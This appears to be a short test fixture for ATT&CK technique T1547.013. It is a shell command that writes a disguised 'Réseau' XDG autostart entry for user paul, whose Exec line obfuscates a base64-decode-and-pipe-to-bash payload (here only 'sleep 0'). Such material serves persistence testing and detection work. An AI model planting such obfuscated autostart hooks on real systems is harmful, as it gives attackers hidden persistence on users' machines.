# technique: T1547.013
# location: linux.xdg.user-autostart
# source: /home/paul/.config/autostart/réseau.desktop
su paul -c 'mkdir -p ~/.config/autostart && cat > ~/.config/autostart/réseau.desktop' <<'DESKTOP'
[Desktop Entry]
Type=Application
Name=Réseau
Exec=bash -c "{echo,c2xlZXAgMA==}|{base64,-d}|{bash,-i}"
X-GNOME-Autostart-enabled=true
DESKTOP
